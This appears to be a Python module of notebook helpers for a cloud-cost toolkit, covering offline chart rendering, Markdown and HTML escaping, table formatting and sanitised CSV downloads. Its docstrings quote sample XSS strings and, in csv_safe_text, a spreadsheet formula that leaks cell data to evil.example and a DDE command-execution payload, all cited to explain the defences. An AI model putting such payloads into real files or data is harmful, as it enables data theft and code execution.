"""Helpers the curated notebooks call, so one notebook is good both live in JupyterLab and as an offline report.

Typical notebook (the first code cell is tagged ``parameters``)::

    # parameters
    warehouse = "data/warehouse.duckdb"
    config_path = "finops.yaml"
    billing_period = "2026-10"

    # next cell
    import finops_kit as fk
    import finops_kit.notebook as nb
    import finops_kit.charts as ch
    nb.setup(globals())                       # renderer + theme; remembers the parameters defined so far
    con = fk.connect(warehouse, read_only=True)
    nb.header(con, "Tagging audit")           # parameters, input fingerprint, reconciliation, versions, run time

    nb.table(df, money=["cost"])              # escaped HTML table with money formatting (returns a displayable)
    nb.live_only(my_ipywidget, static=chart)  # live control in JupyterLab; a clear note + static view in reports

API: ``setup(namespace=None, mode=None)``, ``in_report()``, ``scope(con, config)``,
``header(con, title=None, params=None, scope=None)``,
``table(df, money=None, percent=None, currency=SCOPE_CURRENCY, caption=None, max_rows=200)``,
``live_only(widget, static=None, note=None)``, ``money(value, currency=SCOPE_CURRENCY)``, ``LIVE_ONLY_NOTE``,
``md(text, **values)``, ``text(value)`` / ``code(value)`` (a data value made safe inside Markdown).
Money is shown in the currency of the scope resolved by :func:`scope` (USD until then).

Why two renderers: in a report run (``finops-kit report`` sets ``FINOPS_REPORT=1`` for its kernels) each
Altair chart is emitted as a ``<div>`` plus a small ``vegaEmbed`` call; the Vega/Vega-Lite/vega-embed bundle is
put into the page ONCE by the kit's nbconvert template, so the HTML works offline and stays small. Live in
JupyterLab the same bundle goes into the page once, with the first chart (:func:`live_charts`): Altair's default
renderer loads Vega from a CDN and draws nothing without network.

Safety: every value shown by ``header`` and ``table`` goes through ``html.escape``; chart specs embedded in
the page have ``</`` escaped so a data value cannot close the ``<script>`` element; a data value put into
Markdown goes through :func:`text` (or is a keyword value of :func:`md`), so a bucket named
``x<img src=x onerror=...>`` or ``[a](javascript:...)`` shows as those characters, never as markup.
"""

from __future__ import annotations

import datetime as _dt
import html
import json
import os
import platform
import re
import string
from collections.abc import Callable, Iterable, Mapping
from decimal import Decimal
from importlib import metadata
from pathlib import Path
from typing import Any

#: Environment variable set by the report runner for its kernels.
REPORT_ENV = "FINOPS_REPORT"
#: Text shown in a static report in place of a control that needs a Python kernel.
LIVE_ONLY_NOTE = "live-only control: open the notebook in JupyterLab to use it"
#: Output metadata key marking kit-generated outputs (the header carries the run time, so determinism checks
#: skip outputs marked ``{"finops_kit": "header"}``).
META_KEY = "finops_kit"
#: Packages whose versions the header shows.
KEY_PACKAGES = ("finops-kit", "duckdb", "pandas", "pyarrow", "altair", "ipywidgets", "papermill", "nbconvert")

_state: dict[str, Any] = {"mode": None, "params": {}, "chart_seq": 0, "currency": "USD"}
#: Default of ``currency`` in :func:`money` and :func:`table`: the currency of the notebook's resolved scope.
SCOPE_CURRENCY = "(scope)"
_SIMPLE = (str, int, float, bool, type(None))
_IPYTHON_NAMES = {"In", "Out", "exit", "quit", "get_ipython", "open"}


def in_report() -> bool:
    """True when running under ``finops-kit report`` (or after ``setup(mode="report")``)."""
    if _state["mode"] is not None:
        return _state["mode"] == "report"
    return os.environ.get(REPORT_ENV) == "1"


def _is_simple(value: Any) -> bool:
    if isinstance(value, _SIMPLE):
        return True
    return isinstance(value, list | tuple) and all(isinstance(v, _SIMPLE) for v in value)


def parameters_from(namespace: Mapping[str, Any]) -> dict[str, Any]:
    """The simple literal values (str/int/float/bool/None/list) defined in ``namespace``: the parameters, when
    called right after the parameters cell."""
    return {k: v for k, v in namespace.items()
            if not k.startswith("_") and k not in _IPYTHON_NAMES and _is_simple(v)}


#: parameters that name files of the project (relative to the project root when run by ``finops-kit report``)
PATH_PARAMETERS = ("warehouse", "config_path")
#: name endings of parameters holding a path (``price_cache``) or a list of paths (``trace_paths``)
_PATH_SUFFIXES = ("_path", "_file", "_dir", "_cache", "_paths", "_files")


def resolve_project_paths(namespace: dict[str, Any], start: Path | None = None) -> None:
    """Make relative file parameters work when the notebook is opened live from ``notebooks/``.

    Reports run with the project root as working directory, where ``data/warehouse.duckdb`` resolves. JupyterLab
    starts the kernel in the notebook's folder instead; a relative path that does not exist there is resolved
    with :func:`finops_kit.project.resolve` (found in the parent folders up to the project root -- the rule
    ``fk.connect()`` uses --, else placed under the project root, so a cache is not created in ``notebooks/``)
    and replaced by the absolute path. Lists of paths (``trace_paths``) are resolved item by item. Paths that
    exist as given, absolute paths and empty values are left alone.
    """
    from .project import project_root
    from .project import resolve as resolve_path

    here = (start or Path.cwd()).resolve()
    root = project_root(here)

    def one(value: str) -> str:
        p = Path(value)
        if not value or p.is_absolute() or (here / p).exists() or "://" in value:
            return value
        found = resolve_path(p, here)
        if found.exists() or (root is not None and root != here):
            return str(found)
        return value

    for name, value in list(namespace.items()):
        if name.startswith("_") or (name not in PATH_PARAMETERS and not name.endswith(_PATH_SUFFIXES)):
            continue
        if isinstance(value, str):
            namespace[name] = one(value)
        elif isinstance(value, list) and value and all(isinstance(v, str) for v in value):
            namespace[name] = [one(v) for v in value]


def setup(namespace: Mapping[str, Any] | None = None, mode: str | None = None) -> None:
    """Pick the Altair renderer and theme; remember the notebook's parameters for :func:`header`.

    Call it right after the parameters cell with ``globals()``. ``mode`` forces ``"report"`` or ``"live"``
    (default: report when run by ``finops-kit report``).
    """
    import altair as alt

    from . import charts

    if mode not in (None, "report", "live"):
        raise ValueError(f"mode must be 'report' or 'live', not {mode!r}")
    _state["mode"] = mode
    if namespace is not None and isinstance(namespace, dict):
        resolve_project_paths(namespace)
    if namespace is not None:
        _state["params"] = parameters_from(namespace)
    charts.enable_theme()
    if in_report():
        if "finops_offline" not in alt.renderers.names():
            alt.renderers.register("finops_offline", _offline_renderer)
        alt.renderers.enable("finops_offline")
        _unvalidated_chart_display(True)
    else:
        _unvalidated_chart_display(False)
        live_charts(reset=True)


def _chart_bundle(chart: Any) -> dict[str, str] | None:
    """A chart's display in a report kernel: its spec without Altair's schema validation, then the active
    renderer -- what ``Chart._repr_mimebundle_`` does with ``to_dict()``'s default ``validate=True``.

    Why not validate here: checking each spec against the Vega-Lite JSON schema took 0.87 s of CPU of the six
    curated reports' first run (40 charts; half of all the time Altair spends displaying them), on specs the
    kit's chart functions build and the tests validate (``to_dict()``), and whose drawing the browser test checks
    in every report. A spec that is invalid anyway still says so: Altair without validation hands it to
    vega-embed, which writes the error into the chart's place (``data-error``; see :func:`_offline_renderer`).
    Live in JupyterLab, where analysts write their own charts, Altair's validation and error messages stay."""
    import altair as alt

    try:
        spec = chart.to_dict(validate=False, context={"pre_transform": False})
    except Exception:  # noqa: BLE001 - as Altair's own display: the chart's error, not a failed cell
        return chart._repr_mimebundle_()
    renderer = alt.renderers.get()
    return renderer(spec) if renderer else None


def _unvalidated_chart_display(on: bool) -> None:
    """Register :func:`_chart_bundle` as IPython's display of Altair charts (a type printer: IPython asks it
    before the chart's own ``_repr_mimebundle_``), or remove it (``on=False``: live mode, Altair's own display).
    Outside IPython there is no display to change."""
    try:
        from IPython import get_ipython
    except ImportError:  # pragma: no cover - the kit's notebooks always run in IPython
        return
    shell = get_ipython()
    if shell is None:
        return
    import altair as alt

    formatter = shell.display_formatter.mimebundle_formatter
    if on:
        formatter.for_type(alt.TopLevelMixin, _chart_bundle)
    elif formatter.type_printers.get(alt.TopLevelMixin) is _chart_bundle:
        formatter.pop(alt.TopLevelMixin)


def live_charts(reset: bool = False) -> None:
    """Draw Altair charts in live JupyterLab with the kit's own Vega bundle (no CDN, works offline).

    Altair's default renderer loads Vega from cdn.jsdelivr.net: with no network every chart showed "Error loading
    script". The ``finops_live`` renderer puts the bundle the reports use (:mod:`finops_kit.assets`, ~0.9 MB)
    into the page once -- with the first chart after :func:`setup` (``reset=True``) or after the kernel
    started -- and every chart is a ``<div>`` plus a small ``vegaEmbed`` call. Charts inside ipywidgets
    ``Output`` areas (the explorers) are drawn the same way. Called by :func:`setup` in live mode and by
    ``fk.explore``/``fk.costs`` charts; the report renderer is left alone.
    """
    import altair as alt

    from . import charts

    charts.enable_theme()
    if "finops_live" not in alt.renderers.names():
        alt.renderers.register("finops_live", _live_renderer)
    if reset:
        _state["bundle_sent"] = False
    if alt.renderers.active != "finops_offline" or not in_report():
        alt.renderers.enable("finops_live")


def _script_json(obj: Any) -> str:
    """JSON safe inside an HTML ``<script>``: ``</`` and ``<!--`` cannot end or confuse the element."""
    text = json.dumps(obj, sort_keys=True, separators=(",", ":"), ensure_ascii=False, default=str)
    return (text.replace("</", "<\\/").replace("<!--", "<\\!--")
            .replace("\u2028", "\\u2028").replace("\u2029", "\\u2029"))


#: vega-embed options: export (SVG/PNG) stays, anything that would open an external site goes.
EMBED_OPTIONS = {"actions": {"export": True, "source": False, "compiled": False, "editor": False},
                 "renderer": "svg"}


def embed_options() -> dict[str, Any]:
    """:data:`EMBED_OPTIONS` plus the number locale of the scope's currency, so a chart's ``$`` money formats
    write the same currency as the tables beside it (``1.2k EUR`` in a EUR scope)."""
    from .currency import d3_locale

    return {**EMBED_OPTIONS, "formatLocale": d3_locale(_state["currency"])}


def _offline_renderer(spec: dict, **kwargs: Any) -> dict[str, str]:
    """Altair renderer for reports: a ``<div>`` and a small script calling ``vegaEmbed`` (bundle in the page)."""
    _state["chart_seq"] += 1
    div_id = f"finops-chart-{_state['chart_seq']}"
    title = spec.get("title")
    if isinstance(title, dict):
        title = title.get("text")
    plain = f"<chart {div_id}: {title}>" if isinstance(title, str) else f"<chart {div_id}>"
    script = (
        "(function(){var el=document.getElementById(" + json.dumps(div_id) + ");"
        "var spec=" + _script_json(spec) + ";"
        "if(!window.vegaEmbed){el.textContent='Chart not rendered: the Vega bundle is missing from this page "
        "(render it with finops-kit report).';return;}"
        "window.vegaEmbed(el,spec," + _script_json(embed_options()) + ")"
        ".catch(function(e){el.setAttribute('data-error','1');el.textContent='Chart error: '+e;});})();"
    )
    body = (f'<div id="{div_id}" class="finops-chart vega-embed-target"></div>\n'
            f'<script type="text/javascript">{script}</script>')
    return {"text/html": body, "text/plain": plain}


def _live_renderer(spec: dict, **kwargs: Any) -> dict[str, str]:
    """Altair renderer for live JupyterLab: the kit's Vega bundle once per page (see :func:`live_charts`), then a
    ``<div>`` and a ``vegaEmbed`` call that finds its ``<div>`` next to the script (JupyterLab may render the
    output before it is attached to the page, and may show one output in two views)."""
    import uuid

    from .assets import load_vega_bundle

    div_id = f"finops-live-{uuid.uuid4().hex[:12]}"
    title = spec.get("title")
    if isinstance(title, dict):
        title = title.get("text")
    plain = f"<chart: {title}>" if isinstance(title, str) else "<chart>"
    bundle = ""
    if not _state.get("bundle_sent"):
        # the bundle is an IIFE publishing window.vegaEmbed; guarded so a second copy in the page is a no-op
        text = load_vega_bundle().replace("</script", "<\\/script")
        bundle = ('<script type="text/javascript">if(!window.vegaEmbed){' + text + "}</script>\n")
        _state["bundle_sent"] = True
    script = (
        "(function(){var s=document.currentScript;"
        "var el=(s&&s.previousElementSibling&&s.previousElementSibling.classList.contains('finops-chart'))?"
        "s.previousElementSibling:document.getElementById(" + json.dumps(div_id) + ");"
        "function draw(n){if(!window.vegaEmbed){if(n>50){el.setAttribute('data-error','1');"
        "el.textContent='Chart not drawn: the Vega bundle is not loaded in this page; re-run the notebook from "
        "its setup cell (nb.setup / finops_kit.notebook.live_charts(reset=True)).';return;}"
        "return setTimeout(function(){draw(n+1);},100);}"
        "window.vegaEmbed(el,spec," + _script_json(embed_options()) + ")"
        ".catch(function(e){el.setAttribute('data-error','1');el.textContent='Chart error: '+e;});}"
        "var spec=" + _script_json(spec) + ";draw(0);})();"
    )
    body = (bundle + f'<div id="{div_id}" class="finops-chart vega-embed-target"></div>'
            f'<script type="text/javascript">{script}</script>')
    return {"text/html": body, "text/plain": plain}


# --------------------------------------------------------------------------------------------------------------
# formatting and tables

def money(value: Any, currency: str | None = SCOPE_CURRENCY, places: int = 2, *, signed: bool = False) -> str:
    """``1234.5`` -> ``$1,234.50`` (``-$3.00`` for negatives, ``+$3.00`` when ``signed``; ``1,234.50 EUR`` for other
    currencies); the scope's currency unless given (see :func:`finops_kit.currency.format_money`)."""
    from .currency import format_money

    return format_money(value, _state["currency"] if currency == SCOPE_CURRENCY else currency, places, signed=signed)


#: fenced code blocks and inline code spans: Markdown shows their text verbatim (a ``\\$`` there would show the
#: backslash) and JupyterLab never reads math inside them. A backslash-escaped backtick (:func:`text`) opens none.
_MD_CODE = re.compile(r"(^[ \t]*(```|~~~)[^\n]*\n.*?^[ \t]*\2[^\n]*$|(?<!\\)(`+)(?!`).+?(?<!`)\3(?!`))", re.M | re.S)


def escape_dollars(text: str) -> str:
    """``text`` with every ``$`` outside code escaped as ``\\$`` (already escaped ones stay single-escaped).

    Why: JupyterLab (and MathJax in nbconvert) reads two dollar signs in one Markdown output as inline math, so
    "**$1.00/month** ... **$2.00**" rendered as one italic math span with stray ``**`` around it.
    """
    out, pos = [], 0
    for m in _MD_CODE.finditer(text):
        out.append(text[pos:m.start()].replace("\\$", "$").replace("$", "\\$"))
        out.append(m.group(0))
        pos = m.end()
    out.append(text[pos:].replace("\\$", "$").replace("$", "\\$"))
    return "".join(out)


#: MathJax 3's class for "do not typeset inside" (JupyterLab's typesetter keeps the default): on every HTML
#: wrapper the kit emits, so money in a table caption or a header is never read as math
NO_MATH = "mathjax_ignore"


#: characters a data value must not bring into Markdown as markup: written as HTML character references (HTML
#: tags, attribute quotes) or backslash-escaped (every other ASCII punctuation character: links and images
#: ``[..](..)``, emphasis ``* _ ~``, code spans, ``$`` math, ``{{``, headings ``#``, quotes ``>``, list markers
#: ``- + 1.``, tables ``|``, autolinks ``:``)
_MD_ENTITIES = {"&": "&amp;", "<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&#x27;"}
_MD_PUNCT = frozenset("!#$%()*+,-./:;=?@[\\]^_`{|}~")


def text(value: Any) -> str:
    """``value`` as Markdown text that renders as exactly its characters: no HTML, link, image, emphasis, code,
    math, heading, quote or list can come out of it. Use it for every data value (bucket, account, model, tag,
    region, file name...) put into :func:`md`; :func:`md` with keyword values does it for you::

        nb.md(f"**{nb.text(r.bucket)}** costs {nb.money(r.cost)}")
        nb.md("**{bucket}** costs {cost}", bucket=r.bucket, cost=nb.money(r.cost))

    Line breaks and runs of white space become one space (a value cannot start a new block). ``None`` is "".
    Inside a fenced code block Markdown shows text verbatim (and the renderers escape it as HTML): put values there
    unescaped (:func:`code` for an inline code span).
    """
    if value is None:
        return ""
    s = " ".join(str(value).split())
    return "".join(_MD_ENTITIES.get(ch) or (f"\\{ch}" if ch in _MD_PUNCT else ch) for ch in s)


def code(value: Any) -> str:
    """``value`` as an inline Markdown code span (a file name, an id): shown verbatim, HTML escaped by the renderer.
    The fence is longer than any run of backticks in the value; line breaks become spaces."""
    s = " ".join(str("" if value is None else value).split())
    ticks = "`" * (max((len(r) for r in re.findall(r"`+", s)), default=0) + 1)
    pad = " " if s.startswith("`") or s.endswith("`") or not s else ""
    return f"{ticks}{pad}{s}{pad}{ticks}"


class _MarkdownValues(string.Formatter):
    """``str.format`` whose fields are formatted (``{cost:,.2f}``) and then made Markdown text (:func:`text`)."""

    def format_field(self, value: Any, format_spec: str) -> str:
        return text(format(value, format_spec))


def md(text: str, /, **values: Any) -> Any:
    """Markdown for ``display`` with money safe from math rendering; every Markdown output of the kit and its
    notebooks goes through here (``tests/test_markdown_dollars.py``, ``tests/test_live_lab.py``).

    Data values: either wrap each in :func:`text` inside an f-string, or give ``text`` as a template with
    ``{name}`` fields and the values as keywords: every value is escaped (``nb.md("**{bucket}**", bucket=b)``);
    literal braces of such a template are written ``{{`` / ``}}`` as in ``str.format``.

    Two layers, because JupyterLab 4 reads ``$`` twice: its Markdown renderer pairs dollar signs in the source
    before Markdown is parsed (``\\$`` stops that: :func:`escape_dollars`), and MathJax then typesets the
    rendered page, where ``\\$`` has become a plain ``$`` again -- measured: "($9,796.99 of $25,302.44/month)"
    still rendered as math. Text with a dollar sign is therefore also wrapped in a ``<div class="mathjax_ignore">``
    (an HTML block; the Markdown between blank lines is still Markdown in JupyterLab and nbconvert).

    The text is always the Markdown shown, never a name of what to show: IPython's ``Markdown(text)`` -- and
    ``Markdown(data=text)`` alike -- fetches a text starting with ``http`` as a URL and reads a text naming an
    existing file, so ``nb.md("{team}", team="Makefile")`` rendered the project's Makefile (and a file holding
    ``<img src=x onerror=...>`` ran script in the page). The object is made empty and then given the text.
    """
    from IPython.display import Markdown

    if values:
        text = _MarkdownValues().vformat(text, (), values)
    safe = escape_dollars(text)
    if "$" in _MD_CODE.sub("", safe):
        safe = f'<div class="{NO_MATH}">\n\n{safe}\n\n</div>'
    out = Markdown(data="")  # "" is neither a URL nor a file
    out.data = safe
    return out


def _cell(value: Any, is_money: bool, is_pct: bool, currency: str | None) -> tuple[str, bool]:
    """Escaped text of one cell and whether it is numeric (right-aligned)."""
    if value is None:
        return "", False
    try:
        import pandas as pd

        if value is pd.NA or value is pd.NaT:
            return "", False
    except ImportError:  # pragma: no cover - pandas is a dependency
        pass
    if isinstance(value, float) and value != value:
        return "", False
    if is_money and isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return html.escape(money(value, currency)), True
    if is_pct and isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return html.escape(f"{float(value):.1%}"), True
    if isinstance(value, Decimal):
        return html.escape(f"{value:,.2f}" if value == value.quantize(Decimal("0.01")) else f"{value:,}"), True
    if isinstance(value, bool):
        return ("yes" if value else "no"), False
    if isinstance(value, int):
        return f"{value:,}", True
    if isinstance(value, float):
        return html.escape(f"{value:,.4g}" if abs(value) < 1000 else f"{value:,.0f}"), True
    if isinstance(value, _dt.datetime):
        text = value.strftime("%Y-%m-%d") if (value.hour, value.minute, value.second) == (0, 0, 0) else (
            value.strftime("%Y-%m-%d %H:%M:%S"))
        return html.escape(text), False
    if hasattr(value, "isoformat"):
        return html.escape(value.isoformat()), False
    return html.escape(str(value), quote=True), False


class HTMLTable:
    """An escaped HTML table; displays itself in notebooks (``_repr_html_``) and prints as text."""

    def __init__(self, markup: str, text: str):
        self.markup, self.text = markup, text

    def _repr_html_(self) -> str:
        return self.markup

    def __repr__(self) -> str:
        return self.text

    def __str__(self) -> str:
        return self.markup


_TABLE_CSS = ("border-collapse:collapse;font-size:12px;margin:4px 0 12px 0;max-width:100%;")
_TH = "text-align:left;border-bottom:1px solid #999;padding:3px 8px;"  # lab CSS right-aligns by default
# long text wraps inside its cell instead of widening the table (no sideways scrolling at 1280 px). What every cell
# shares is said once: the row's border on the <tr>, wrapping and tabular digits on the <tbody> (both inherited;
# JupyterLab's stylesheet sets neither on cells), so a cell carries only what the lab's own cell rule (padding
# 0.5em, max-width none, text-align right) would otherwise decide -- the same look with a third of the bytes: the
# spot report's tables were 460 kB of its 2.00 MB, mostly the same 100-135 characters of style on every cell.
_TBODY = "overflow-wrap:anywhere;font-variant-numeric:tabular-nums"
_TR = "border-bottom:1px solid #eee"
_TD = "padding:3px 8px;max-width:320px;text-align:left"
_TD_NUM = "padding:3px 8px;text-align:right"
#: Width budget of one table (px): a 1280 px window minus the page's margins and prompts.
TABLE_WIDTH_PX = 1000
#: Rows a table shows before the note and the CSV link; the CSV holds at most CSV_MAX_ROWS rows.
TABLE_ROWS = 25
CSV_MAX_ROWS = 20_000
_CHAR_PX, _CELL_PAD_PX, _WRAP_CHARS = 7, 18, 40


def _column_labels() -> dict[str, dict[str, str]]:
    """``finops_kit/data/column_labels.csv``: column -> label, role (key/action/detail) and format."""
    if "labels" not in _state:
        from .datafiles import data_rows

        _state["labels"] = {r["column"]: r for r in data_rows("column_labels.csv")}
    return _state["labels"]


def label(column: str) -> str:
    """The header a reader sees for a data-frame column: the label map's words, else underscores as spaces."""
    row = _column_labels().get(str(column))
    if row and row.get("label"):
        return row["label"]
    text = str(column).replace("_", " ").strip()
    return text[:1].upper() + text[1:] if text else str(column)


def _role(column: str) -> str:
    return (_column_labels().get(str(column)) or {}).get("role") or ""


def _fmt_of(column: str) -> str:
    return (_column_labels().get(str(column)) or {}).get("format") or ""


def column_order(columns: Iterable[Any], key: Iterable[str] | None = None,
                 action: Iterable[str] | None = None) -> list[str]:
    """Identifying columns first, then the action columns (what to do, what it is worth), then the rest, then long
    detail text. ``key``/``action`` name them explicitly; otherwise the roles of the label map decide."""
    cols = [str(c) for c in columns]
    keys = [c for c in (key or []) if c in cols] if key is not None else [c for c in cols if _role(c) == "key"]
    acts = [c for c in (action or []) if c in cols and c not in keys] if action is not None else \
        [c for c in cols if _role(c) == "action" and c not in keys]
    detail = [c for c in cols if _role(c) == "detail" and c not in keys and c not in acts]
    rest = [c for c in cols if c not in keys and c not in acts and c not in detail]
    return keys + acts + rest + detail


#: What a spreadsheet reads as the start of a formula (OWASP "CSV Injection"): ``=``, ``+``, ``-``, ``@``, tab, CR
CSV_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
#: A text cell that is only a number (``-12.5``, ``+3``, ``-1e-3``): opens as that number, no formula can be in it
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def csv_safe_text(value: Any) -> Any:
    """A text cell as a spreadsheet must show it: prefixed with ``'`` when it starts like a formula.

    Why: a CSV download opened in Excel/LibreOffice/Sheets evaluates a cell starting with ``=``, ``+``, ``-``,
    ``@``, tab or CR -- the tag audit's CSV held ``=HYPERLINK("http://evil.example/?leak="&A2,"Click")`` and
    ``@SUM(1+1)*cmd|' /C calc'!A0`` from tag values. OWASP's guidance: prefix such a cell with a single quote, which
    the spreadsheet shows as text. Numbers are not text: a number (and a text cell that is only a number, ``-12.5``)
    is left as it is, so a column of negative costs still opens as numbers.
    """
    if isinstance(value, str) and value.startswith(CSV_FORMULA_START) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def csv_safe(df: Any) -> Any:
    """``df`` with every text cell and column name made safe to open in a spreadsheet (:func:`csv_safe_text`);
    numeric, date and boolean columns are untouched."""
    import pandas as pd

    out = df.set_axis([csv_safe_text(str(c)) for c in df.columns], axis=1)  # a new frame: df is not changed
    for i in range(out.shape[1]):
        col = out.iloc[:, i]
        if pd.api.types.is_numeric_dtype(col.dtype) or pd.api.types.is_datetime64_any_dtype(col.dtype) or \
                pd.api.types.is_bool_dtype(col.dtype):
            continue
        if not col.map(lambda v: isinstance(v, str) and v.startswith(CSV_FORMULA_START)).any():
            continue
        out.isetitem(i, col.astype(object).map(csv_safe_text))
    return out


def csv_link(df: Any, filename: str, text: str | None = None, max_rows: int = CSV_MAX_ROWS) -> str:
    """An ``<a download>`` link holding the CSV itself (a ``data:`` URI), so it works in the offline page.

    Text cells that a spreadsheet would run as a formula are prefixed with ``'`` (:func:`csv_safe`). The CSV is
    redacted like a report page (:func:`finops_kit.report.redact`): the user-info of every URL, credential-shaped
    values, and the secret values of the kernel's environment. A report kernel runs with its secrets scrubbed, so
    there only the first two are masked here; the runner, which knows the scrubbed values, redacts the decoded links
    of the page and of the executed notebook afterwards (:func:`finops_kit.report.redact_data_links`).
    """
    import base64

    from .report import redact, secret_values

    full = csv_safe(df.head(max_rows))
    # CRLF rows (RFC 4180): the csv writer then quotes every cell holding a CR or LF; with "\n" rows a bare CR
    # stayed unquoted, and a spreadsheet that ends a row there read the rest of the cell as a new row's formula
    csv = redact(full.to_csv(index=False, lineterminator="\r\n"), secret_values())
    data = base64.b64encode(csv.encode("utf-8")).decode("ascii")
    cut = f" (first {max_rows:,} of {len(df):,} rows)" if len(df) > max_rows else f" ({len(df):,} rows)"
    return (f'<a class="finops-csv" download="{html.escape(filename, quote=True)}" '
            f'href="data:text/csv;base64,{data}">{html.escape(text or "download the full table (CSV)")}</a>{cut}')


def _slug(text: str) -> str:
    import re

    return (re.sub(r"[^A-Za-z0-9]+", "_", text).strip("_").lower() or "table")[:60]


def empty_columns(df: Any, columns: Iterable[str] | None) -> list[str]:
    """Those of ``columns`` in ``df`` whose every value is 0 or empty: what a display leaves out of its optional
    columns (:func:`table`'s ``optional``, :class:`finops_kit.api.CostFrame`'s display). One rule for both."""
    return [c for c in columns or () if c in df.columns
            and not any(v is not None and v == v and v != 0 for v in df[c])]


def table(df: Any, money: Iterable[str] | None = None, percent: Iterable[str] | None = None,
          currency: str | None = SCOPE_CURRENCY, caption: str | None = None, max_rows: int = TABLE_ROWS,
          key: Iterable[str] | None = None, action: Iterable[str] | None = None, csv: bool = True,
          width_px: int = TABLE_WIDTH_PX, optional: Iterable[str] | None = None) -> HTMLTable:
    """Escaped HTML table of a DataFrame or DuckDB relation, laid out for a reader.

    * **Order**: identifying columns first (``key``, default: the label map's ``key`` columns: team, resource,
      account...), then the action columns (``action``, default: status, breach date, saving...), then the rest, long
      detail text last (:func:`column_order`).
    * **Labels in words** from ``finops_kit/data/column_labels.csv`` (``ai_cost`` -> "AI cost", ``mape`` ->
      "MAPE (%)"); one map for every report, not a dict per notebook.
    * **Formats**: ``money=[...]`` (plus Decimal columns and the map's money columns) as ``$1,234.56``;
      ``percent=[...]`` fractions as ``12.3%`` (the map's ``pct100`` columns hold 0-100 and are shown the same);
      dates as ``2026-10-31``, months as ``2026-10``.
    * **Rows**: the first ``max_rows`` are shown; a note says how many there are, with a CSV download of the full
      table (a ``data:`` link, works offline; ``csv=False`` leaves it out).
    * **Width**: columns are shown while they fit ``width_px`` (estimated from their text); the others go into an
      expandable "more columns" section as further tables that repeat the key columns, so no table needs sideways
      scrolling at 1280 px. Long text wraps inside its cell.

    * **Optional columns** (``optional=[...]``): left out when every value is 0 or empty -- a column of $0.00 on
      every line (``licence_apart_cost`` where no licence is billed apart, ``unknown_accelerator_cost`` where the
      catalog knows every type) says nothing and takes width; it appears, on every line, as soon as one row has a
      value. The CSV download has what the table shows.

    Every header, cell and caption is HTML-escaped, so a tag value like ``<script>alert(1)</script>`` shows as text.
    """
    if hasattr(df, "df") and not hasattr(df, "iloc"):  # DuckDB relation
        df = df.limit(CSV_MAX_ROWS + 1).df()
    empty = empty_columns(df, optional)
    if empty:
        df = df.drop(columns=empty)
    money_cols = set(money or ()) - set(empty)
    pct_cols = set(percent or ()) - set(empty)
    names = [str(c) for c in df.columns]
    unknown = (money_cols | pct_cols) - set(names)
    if unknown:
        raise KeyError(f"table(): no column(s) {sorted(unknown)}; columns are {names}")
    df = df.set_axis(names, axis=1)
    shown = df.head(max_rows)
    pct100 = set()
    for c in names:
        if c in money_cols or c in pct_cols:
            continue
        col = shown[c]
        is_decimal = str(col.dtype).startswith("decimal") or (
            col.dtype == object and col.map(lambda v: isinstance(v, Decimal)).any())
        fmt = _fmt_of(c)
        if is_decimal or (fmt == "money" and str(col.dtype).startswith(("float", "int"))):
            money_cols.add(c)
        elif fmt == "pct100" and str(col.dtype).startswith(("float", "int")):
            pct100.add(c)
    order = column_order(names, key, action)
    # formatted cells, per column
    cells: dict[str, list[tuple[str, bool]]] = {}
    for c in order:
        month = _fmt_of(c) == "month"
        out = []
        for v in shown[c].tolist():
            if c in pct100 and isinstance(v, int | float) and not isinstance(v, bool) and v == v:
                out.append((html.escape(f"{float(v):.1f}%"), True))
            elif month and hasattr(v, "strftime") and not (isinstance(v, float) and v != v):
                out.append((html.escape(v.strftime("%Y-%m")), False))
            else:
                out.append(_cell(v, c in money_cols, c in pct_cols, currency))
        cells[c] = out

    def width(c: str) -> int:
        longest = max([len(html.unescape(t)) for t, _ in cells[c]] + [min(len(label(c)), 16)])
        return min(longest, _WRAP_CHARS) * _CHAR_PX + _CELL_PAD_PX

    keys = [c for c in order if c in (set(key) if key is not None else {c for c in names if _role(c) == "key"})]
    # the key columns always show; other columns while they fit (at least one beside the keys)
    main, used = list(keys), sum(width(c) for c in keys)
    overflow: list[str] = []
    for c in order:
        if c in keys:
            continue
        if not overflow and (used + width(c) <= width_px or len(main) == len(keys)):
            main.append(c)
            used += width(c)
        else:
            overflow.append(c)
    # the key columns repeated in the detail tables: as many as leave room for detail columns
    rep = [c for c in keys if c in main][:2]

    def render(cols: list[str], cap: str) -> str:
        head = "".join(f'<th style="{_TH}" title="{html.escape(c, quote=True)}">{html.escape(label(c))}</th>'
                       for c in cols)
        body = []
        for i in range(len(shown)):
            tds = []
            for c in cols:
                text, numeric = cells[c][i]
                tds.append(f'<td style="{_TD_NUM if numeric else _TD}">{text}</td>')
            body.append(f'<tr style="{_TR}">' + "".join(tds) + "</tr>")
        capm = (f'<caption style="caption-side:top;text-align:left;font-weight:600">{html.escape(cap)}</caption>'
                if cap else "")
        return (f'<table class="finops-table {NO_MATH}" style="{_TABLE_CSS}">{capm}<thead><tr>{head}</tr></thead>'
                f'<tbody style="{_TBODY}">{"".join(body)}</tbody></table>')

    parts = [render(main, caption or "")]
    if overflow:
        chunks: list[list[str]] = [[]]
        room = width_px - sum(width(c) for c in rep)
        for c in overflow:
            if chunks[-1] and sum(width(x) for x in chunks[-1]) + width(c) > room:
                chunks.append([])
            chunks[-1].append(c)
        inner = "".join(render(rep + ch, "") for ch in chunks)
        parts.append(f'<details class="finops-more-columns" style="margin:-6px 0 12px 0;font-size:12px">'
                     f'<summary>{len(overflow)} more column{"s" if len(overflow) > 1 else ""}: '
                     f'{html.escape(", ".join(label(c) for c in overflow))}</summary>{inner}</details>')
    notes = []
    if len(df) > max_rows:
        notes.append(f"showing the first {max_rows} of {len(df):,} rows")
    if csv and len(df) > max_rows:
        notes.append(csv_link(df, f"{_slug(caption or 'table')}.csv", "download all rows (CSV)"))
    if notes:
        parts.append(f'<p class="finops-table-note" style="font-size:11px;color:#666;margin:-8px 0 12px 0">'
                     f'{" &middot; ".join(notes)}</p>')
    text_rows = [" | ".join(html.unescape(cells[c][i][0]) for c in order) for i in range(len(shown))]
    text = "\n".join([" | ".join(label(c) for c in order), *text_rows])
    return HTMLTable("".join(parts), text)


